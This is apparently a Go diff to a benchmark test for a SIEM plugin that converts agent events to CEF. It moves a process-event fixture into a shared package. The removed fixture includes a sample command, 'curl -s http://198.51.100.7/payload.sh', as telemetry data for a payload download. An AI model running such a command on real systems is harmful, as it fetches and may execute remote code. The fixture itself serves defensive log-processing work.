@@ -10,6 +10,7 @@ import (
 
 	"github.com/fluent/fluent-bit-go/output"
 	"github.com/kcs-siem/siem-cef/deliver"
+	"github.com/kcs-siem/siem-cef/internal/fixture"
 	"github.com/kcs-siem/siem-cef/pipeline"
 	"github.com/kcs-siem/siem-cef/record"
 	"github.com/stretchr/testify/require"
@@ -17,29 +18,12 @@ import (
 
 const benchEvents = 1000
 
-// processEvent is a KCS process event with every runtime key the contract has.
-func processEvent(i int) map[string]any {
-	return map[string]any{
-		"event_id": "PM-001", "event_name": "Process management", "status": "Audit", "agent_group": "prod-agents",
-		"source": "kcs-agent-7xq2k", "cluster": "prod-eu-1", "node": "worker-3", "node_ip": "10.20.0.13",
-		"namespace": "shop", "pod": "web-7d9c6b8f5-x2x4q", "container": "alpine",
-		"container_id": "0ce05246346b6687cb754cf716c57f20f226e159397e8e5985e55b448cb92e3f",
-		"image":        "docker.io/library/alpine:3.20",
-		"image_hash":   "sha256:6f0e4c5a1b2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f",
-		"pid":          2001 + i, "ppid": 1999, "new_pid": 2002 + i, "process": "curl", "euid": 1000, "egid": 1000,
-		"command": "curl -s http://198.51.100.7/payload.sh", "operation": "exec",
-		"src_ip": "10.42.3.17", "src_port": 40022, "dst_ip": "198.51.100.7", "dst_port": 80,
-		"path": "/usr/bin/curl", "old_path": "/tmp/curl", "file_mode": "0755", "direction": 1,
-		"message": "Process curl started in container alpine",
-	}
-}
-
 func benchChunk(b *testing.B) []byte {
 	b.Helper()
 	var chunk []byte
 	var err error
 	for i := range benchEvents {
-		chunk, err = record.AppendEvent(chunk, fixtureStart.Add(time.Duration(i)*time.Millisecond), processEvent(i))
+		chunk, err = record.AppendEvent(chunk, fixtureStart.Add(time.Duration(i)*time.Millisecond), fixture.ProcessEvent(i))
 		require.NoError(b, err)
 	}
 	return chunk
